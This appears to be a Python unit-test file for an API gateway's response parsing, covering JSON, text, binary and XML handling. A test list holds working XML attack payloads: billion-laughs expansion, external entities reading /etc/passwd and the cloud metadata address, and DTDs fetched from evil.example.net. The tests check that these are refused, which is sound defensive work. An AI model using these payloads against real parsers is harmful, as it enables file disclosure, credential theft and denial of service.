"""Response formats (json, text, xml, binary), hostile XML, transforms and records."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from authgate.functions.errors import ExpressionError, InvalidUpstreamResponse
from authgate.functions.model import ResponseFormat, RestFunction
from tests.unit.functions.engine_fakes import CONTEXT, MemoryCredentials, harness, response

CANARY = "canary-payload-c0ffee"


def function(
    format: ResponseFormat = ResponseFormat.JSON,
    *,
    output_transform: str = "=$",
    records: str | None = None,
) -> RestFunction:
    return RestFunction(
        name="f",
        source="f.yaml",
        method="GET",
        url="https://api.example.com/x",
        format=format,
        output_transform=output_transform,
        records=records,
    )


async def run(fn: RestFunction, *script: Any) -> Any:
    h = harness(*script)
    return await h.engine.call(fn, {}, context=CONTEXT, credentials=MemoryCredentials())


# --- json ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        f'{{"a": "{CANARY}"',
        f"<html>{CANARY}</html>",
        f'{{"a": NaN, "b": "{CANARY}"}}',
        '{"a": Infinity}',
        '{"a": 1e999}',
        '{"a": -1e999}',
        '{"a": ' + "9" * 5000 + "}",
        b"\xff\xfe\x00garbage",
        "[" * 100_000,
    ],
)
async def test_invalid_json_is_a_clean_502_without_the_body(body: Any) -> None:
    with pytest.raises(InvalidUpstreamResponse) as raised:
        await run(function(), response(200, body))
    assert raised.value.status == 502
    assert "not valid JSON" in raised.value.title
    assert CANARY not in f"{raised.value} {raised.value.description} {raised.value.details}"


async def test_an_empty_json_body_is_no_output_and_no_records() -> None:
    result = await run(function(), response(204, b""))
    assert (result.output, result.records, result.pages) == (None, [], 1)


# --- text and binary -----------------------------------------------------------------------


async def test_text_is_decoded_with_the_declared_charset() -> None:
    body = "Grüße".encode("latin-1")
    headers = {"Content-Type": "text/plain; charset=ISO-8859-1"}
    result = await run(function(ResponseFormat.TEXT), response(200, body, headers=headers))
    assert result.output == "Grüße"
    assert result.records == []


@pytest.mark.parametrize("charset", ["rot13", "base64", "no-such-charset", '"utf-8"'])
async def test_odd_charsets_fall_back_to_utf8(charset: str) -> None:
    headers = {"Content-Type": f"text/plain; charset={charset}"}
    result = await run(function(ResponseFormat.TEXT), response(200, "ok ✓", headers=headers))
    assert result.output == "ok ✓"


async def test_binary_is_base64_with_its_content_type() -> None:
    pdf = b"%PDF-1.7\n\x00\x01\xff binary"
    headers = {"Content-Type": "application/pdf"}
    result = await run(function(ResponseFormat.BINARY), response(200, pdf, headers=headers))
    assert result.output == {
        "contentType": "application/pdf",
        "base64": base64.b64encode(pdf).decode(),
    }
    assert result.records == [result.output]


# --- xml -----------------------------------------------------------------------------------


async def test_xml_becomes_a_json_like_document() -> None:
    xml = b"""<?xml version="1.0" encoding="UTF-8"?>
    <orders count="2" xmlns:x="urn:x">
      <order id="1"><item>Widget &amp; Co</item><qty>2</qty></order>
      <order id="2"><item>Gadget</item><qty>1</qty><x:note>fragile</x:note></order>
      <empty/>
      <mixed kind="m">text &#233;</mixed>
    </orders>"""
    fn = function(ResponseFormat.XML, records="=$.orders.order")
    result = await run(fn, response(200, xml))
    assert result.output == {
        "orders": {
            "@count": "2",
            "@xmlns:x": "urn:x",
            "order": [
                {"@id": "1", "item": "Widget & Co", "qty": "2"},
                {"@id": "2", "item": "Gadget", "qty": "1", "x:note": "fragile"},
            ],
            "empty": None,
            "mixed": {"@kind": "m", "#text": "text é"},
        }
    }
    assert [r["@id"] for r in result.records] == ["1", "2"]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

HOSTILE_XML = [
    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        id="external-entity-file",
    ),
    pytest.param(
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
        id="external-entity-http",
    ),
    pytest.param(
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example.net/x.dtd"> %p;]><r/>',
        id="parameter-entity",
    ),
    pytest.param(b'<!DOCTYPE r SYSTEM "http://evil.example.net/x.dtd"><r/>', id="external-dtd"),
    pytest.param(b"<!DOCTYPE r><r>&undefined;</r>", id="doctype-only"),
    pytest.param(b"<r>&undefined;</r>", id="undefined-entity"),
    pytest.param(b"<r>" + b"<a>" * 300 + b"</a>" * 300 + b"</r>", id="deep-nesting"),
    pytest.param(f"<r>{CANARY}".encode(), id="unclosed"),
    pytest.param(f"<r>{CANARY}</r><r2/>".encode(), id="two-roots"),
    pytest.param(f"not xml {CANARY}".encode(), id="not-xml"),
]


@pytest.mark.parametrize("body", HOSTILE_XML)
async def test_hostile_or_broken_xml_is_refused_cleanly(body: bytes) -> None:
    with pytest.raises(InvalidUpstreamResponse) as raised:
        await run(function(ResponseFormat.XML), response(200, body))
    assert raised.value.status == 502
    assert "not valid XML" in raised.value.title
    text = f"{raised.value} {raised.value.description}"
    assert CANARY not in text
    assert "root:" not in text


# --- transforms and records ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "records"),
    [
        ([{"id": 1}, {"id": 2}], [{"id": 1}, {"id": 2}]),
        ({"id": 1}, [{"id": 1}]),
        ("just text", []),
        (42, []),
        (None, []),
        ([], []),
    ],
)
async def test_records_default_to_the_output(body: Any, records: list[Any]) -> None:
    result = await run(function(), response(200, json.dumps(body).encode()))
    assert result.output == body
    assert result.records == records


async def test_output_transform_and_records_apply_in_order() -> None:
    fn = function(
        output_transform='={"rows": $.data.items.{"id": id, "who": @ctx.user.id}, "n": $.total}',
        records="=$.rows",
    )
    body = {"data": {"items": [{"id": "a", "x": 1}, {"id": "b"}]}, "total": 2}
    result = await run(fn, response(200, body))
    assert result.output["n"] == 2
    assert result.records == [{"id": "a", "who": "usr_1"}, {"id": "b", "who": "usr_1"}]


async def test_a_records_expression_with_no_match_gives_no_records() -> None:
    result = await run(function(records="=$.value"), response(200, {"other": []}))
    assert result.records == []


async def test_a_failing_transform_names_its_role_but_not_the_data() -> None:
    fn = function(output_transform="=$number($.code)")
    with pytest.raises(ExpressionError) as raised:
        await run(fn, response(200, {"code": CANARY}))
    assert "outputTransform" in str(raised.value)
    assert CANARY not in str(raised.value)
